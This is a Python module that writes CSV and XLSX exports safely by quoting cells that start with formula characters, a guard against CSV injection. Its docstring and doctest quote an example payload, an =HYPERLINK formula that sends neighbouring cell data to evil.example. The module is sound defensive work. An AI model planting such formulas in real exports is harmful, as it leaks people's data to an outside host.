"""The one way the product writes spreadsheets (CSV and XLSX), so no cell becomes a formula.

Exports carry what people typed (names, reasons, notes). A spreadsheet program runs any cell
that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and some treat a leading tab or
carriage return the same way), so a person's name set to ``=HYPERLINK("https://evil.example/
?leak="&C2,"Click me")`` would turn the council's export into a link that leaks its
neighbours' cells. Every text cell goes through ``safe_text``, which puts a single quote in
front of such text, as OWASP's "CSV injection" guidance says; the quote shows, the formula
never runs. XLSX cells are also typed as text (never a formula) whatever they hold.

Numbers (int, Decimal, float) and dates are written as numbers and dates: they come from our
own sums, and a negative amount is not a formula. Anything else is written as its text.

- ``csv_bytes(rows)``: a whole file, UTF-8 with a byte order mark (so Excel reads £ and names
  right), as the council's reconciliation has always been.
- ``csv_stream(rows)``: the same, line by line, for a StreamingHttpResponse (the audit log).
- ``xlsx_append(sheet, cells)`` and ``xlsx_bytes(book)``: rows for an openpyxl sheet.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal
from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

# Characters that make a spreadsheet treat a cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BYTE_ORDER_MARK = "\ufeff"


def safe_text(text: str) -> str:
    """Text that no spreadsheet will run: a leading ``= + - @``, tab or carriage return gets a
    single quote in front.

    >>> safe_text('=HYPERLINK("https://evil.example")')
    '\\'=HYPERLINK("https://evil.example")'
    >>> safe_text("Dee Okafor")
    'Dee Okafor'
    """
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _csv_cell(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "Yes" if value else "No"
    if isinstance(value, (int, float, Decimal)):
        return value
    if isinstance(value, dt.datetime):
        return value.strftime("%d/%m/%Y %H:%M:%S")
    if isinstance(value, dt.date):
        return value.strftime("%d/%m/%Y")
    return safe_text(str(value))


class _Echo:
    """csv.writer wants a file; this hands each line straight back."""

    def write(self, value: str) -> str:
        return value


def csv_stream(rows: Iterable[Sequence[Any]]) -> Iterator[str]:
    """The CSV file line by line (the byte order mark first), for streaming."""
    writer = csv.writer(_Echo())
    yield BYTE_ORDER_MARK
    for row in rows:
        yield writer.writerow([_csv_cell(value) for value in row])


def csv_bytes(rows: Iterable[Sequence[Any]]) -> bytes:
    """The whole CSV file as UTF-8 bytes with a byte order mark."""
    buffer = io.StringIO()
    for line in csv_stream(rows):
        buffer.write(line)
    return buffer.getvalue().encode("utf-8")


def _xlsx_value(value: Any) -> Any:
    if value is None:
        return None
    if isinstance(value, bool):
        return "Yes" if value else "No"
    if isinstance(value, (int, float, Decimal, dt.date, dt.datetime)):
        return value
    # openpyxl refuses control characters a worksheet cannot hold; drop them rather than fail.
    return safe_text(ILLEGAL_CHARACTERS_RE.sub("", str(value)))


def xlsx_append(sheet: Worksheet, cells: Sequence[Any]) -> list[Cell]:
    """One row at the bottom of ``sheet``, returned for styling: text cells typed as text
    (openpyxl would otherwise make any text starting with ``=`` a formula)."""
    row: list[Cell] = []
    for value in cells:
        # Placed by sheet.append below, which sets the row and column.
        cell = Cell(sheet, row=1, column=1, value=_xlsx_value(value))
        if isinstance(cell.value, str):
            cell.data_type = "s"
        row.append(cell)
    sheet.append(row)
    return row


def xlsx_bytes(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
